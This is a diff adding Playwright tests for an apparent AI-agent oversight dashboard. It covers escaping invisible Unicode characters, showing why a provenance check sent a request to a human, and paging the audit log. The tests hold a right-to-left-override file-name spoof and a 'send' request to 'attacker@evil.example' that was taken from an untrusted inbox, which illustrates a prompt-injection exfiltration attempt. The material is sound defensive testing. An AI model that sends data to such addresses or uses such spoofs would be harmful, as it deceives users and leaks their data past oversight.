@@ -148,3 +148,69 @@ def test_operator_terminates_an_agent_from_the_page(server: Server, page: Any) -
     with server.admin() as admin:
         status = admin.status(agent_id)
     assert (status["alive"], status["termination_reason"]) == (False, "runaway spending")
+
+
+def test_invisible_characters_are_shown_escaped(server: Server, page: Any) -> None:
+    agent_id, token = server.new_agent(POLICY)
+    spoof = "invoice\u202efdp.exe"  # reads as "invoiceexe.pdf" when shown raw
+    agent = Waiting(server, agent_id, token, {"invoice": spoof, "iban": "DE\u200b44 5001"})
+    agent.start()
+    item = _queue_item(page, agent_id)
+    shown = item.locator("pre.input").text_content()
+    assert "\u202e" not in shown
+    assert "\u200b" not in shown
+    assert "invoice\\u202efdp.exe" in shown
+    assert "DE\\u200b44 5001" in shown
+    marks = item.locator("pre.input mark.hidden-char")
+    assert marks.count() == 2
+    titles = {marks.nth(i).get_attribute("title") for i in range(2)}
+    assert titles == {"invisible character U+202E", "invisible character U+200B"}
+    page.once("dialog", lambda dialog: dialog.accept("spoofed name"))
+    item.get_by_role("button", name="Reject", exact=True).click()
+    agent.join(timeout=60)
+
+
+def test_why_a_check_asked_a_human(server: Server, page: Any) -> None:
+    policy = {"budget": 100, "scar_limit": 10, "tools": {"send": {"cost": 0}}}
+    agent_id, token = server.new_agent(policy)
+    why = {
+        "code": "untrusted_provenance",
+        "argument": "to",
+        "sources": ["untrusted:read_inbox:act-1"],
+        "message": "to='attacker@evil.example': it does not occur in any trusted source",
+    }
+    with AgentClient(server.url, agent_id, token) as client:
+        decision = client.request_approval("send", {"to": "attacker@evil.example"}, None, why)
+    assert decision["decision"] == "pending_approval"
+    item = _queue_item(page, agent_id)
+    text = item.text_content()
+    assert "Asks a human because untrusted_provenance: to='attacker@evil.example'" in text
+    assert "Labels: untrusted:read_inbox:act-1" in text
+
+
+def test_the_log_shows_the_newest_records_first_with_pages(server: Server, page: Any) -> None:
+    policy = {"budget": 1000, "scar_limit": 10, "tools": {"read": {"cost": 0}}}
+    agent_id, token = server.new_agent(policy)
+    with AgentClient(server.url, agent_id, token) as client:
+        for n in range(60):
+            client.request("read", {"n": n})
+    head = 1 + 2 * 60  # genesis 0, policy 1, then action_requested + action_allowed each
+    page.click("#refresh")
+    page.locator(f"#agents tr[data-agent='{agent_id}']").get_by_role(
+        "button", name="Details"
+    ).click()
+    log = page.locator("#log")
+    log.filter(has_text="action_allowed").wait_for()
+
+    def seqs() -> list[int]:
+        return [int(line.split(" ", 1)[0]) for line in log.text_content().splitlines()]
+
+    assert seqs() == list(range(head, head - 50, -1))
+    assert page.get_by_role("button", name="Newer").is_disabled()
+    page.get_by_role("button", name="Older").click()
+    page.locator("#log-range").filter(has_text=f"records {head - 50} down to").wait_for()
+    assert seqs() == list(range(head - 50, head - 100, -1))
+    page.get_by_role("button", name="Older").click()
+    page.locator("#log-range").filter(has_text=f"records {head - 100} down to 0").wait_for()
+    assert seqs() == list(range(head - 100, -1, -1))
+    assert page.get_by_role("button", name="Older").is_disabled()
